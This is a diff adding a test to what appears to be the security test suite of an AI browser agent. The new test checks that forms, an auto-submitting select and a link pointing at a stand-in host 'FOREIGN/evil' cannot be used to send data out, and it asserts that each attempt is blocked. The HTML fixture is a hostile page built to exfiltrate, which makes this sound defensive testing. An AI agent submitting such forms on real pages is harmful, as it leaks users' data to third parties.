@@ -246,6 +246,29 @@ async def test_forms_of_others_get_no_secrets(bench: Bench, form: str) -> None:
         assert PASSWORD not in held and USER not in held
 
 
+async def test_nothing_is_sent_to_others(bench: Bench) -> None:
+    form = (
+        "<form method=post action=FOREIGN/evil><label>Note <input name=note></label>"
+        "<button>Save the note</button></form>"
+        "<form action=FOREIGN/evil><select aria-label=Colour onchange='this.form.submit()'>"
+        "<option>Red<option>Blue</select></form><a id=a href=FOREIGN/evil>Next</a>"
+    )
+    attack = Attack(bench, BOARD + form)
+    outcome, turns = await attack.obeyed(
+        lambda body: turn(use("left_click", target=ref_of(body, "Save the note"))),
+        lambda body: turn(
+            use("left_click", target=ref_of(body, "Note")), use("key", text="Return")
+        ),
+        lambda body: turn(use("left_click", target=ref_of(body, "Note")), use("type", text="a\n")),
+        lambda body: turn(use("form_input", target=ref_of(body, "Colour"), value="Blue")),
+        turn(use("key", text="Tab Tab Tab"), use("key", text="Enter")),
+        max_steps=20,
+    )
+    assert outcome.success and attack.untouched()
+    for at in (1, 2, 3, 4):
+        assert "leads to a host" in first_error(turns, at)
+
+
 async def test_secrets_are_no_parts_of_addresses_and_keys(bench: Bench) -> None:
     attack = Attack(bench, BOARD + FIELDS)
     outcome, turns = await attack.obeyed(
